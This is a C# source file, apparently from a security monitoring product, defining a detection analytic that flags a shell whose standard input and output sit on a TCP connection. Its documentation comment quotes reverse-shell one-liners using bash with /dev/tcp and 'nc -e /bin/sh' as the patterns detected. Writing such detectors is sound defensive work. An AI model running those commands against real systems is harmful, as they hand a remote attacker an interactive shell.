using Atalaya.Core.Schema;

namespace Atalaya.Core.Analytics.Network;

/// <summary>
/// A shell whose stdin and stdout are a TCP connection: the reverse (or bind) shell shape —
/// <c>bash -i &gt;&amp; /dev/tcp/host/port 0&gt;&amp;1</c>, <c>nc -e /bin/sh</c>, a dup2() loop in a
/// script (T1059.004). Interactive shells read a terminal, scripts a pipe or file; a socket on
/// both ends of a shell has no ordinary use. Loopback peers are kept (a tunnel can end there).
/// </summary>
public sealed class ReverseShellAnalytic : IAnalytic
{
    public const string AnalyticId = "atalaya.analytic.reverse-shell";

    private static readonly HashSet<string> Shells = new(StringComparer.Ordinal)
    {
        "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox",
    };

    public string Id => AnalyticId;

    public string Name => "Shell with its input and output on a network connection";

    public IReadOnlyCollection<string> Categories { get; } = [EventCategories.Network];

    public void Observe(EcsEvent value, ISignalSink signals)
    {
        if (value.Network?.Transport != "tcp" || value.Network.Direction is not ("egress" or "ingress")
            || value.Event.Type.Contains(EventTypes.End)
            || value.Atalaya?.Network?.StandardStreams is not { } streams
            || !streams.Contains("stdin") || !streams.Contains("stdout")
            || value.Process is not { } process || !IsShell(process))
        {
            return;
        }

        signals.Emit(ProcessSignals.Make(this, value, null, 90, 0.9, ["T1059.004"],
            $"the shell {ConnectionFacts.ProcessLabel(process)} ({process.Executable}) has its {string.Join(", ", streams)} on a TCP connection to {ConnectionFacts.DestinationLabel(value)} port {value.Destination?.Port}"));
    }

    private static bool IsShell(ProcessFields process) =>
        (process.Name is { } name && Shells.Contains(name))
        || (process.Executable is { } path && Shells.Contains(PathClassifier.FileName(path)));
}
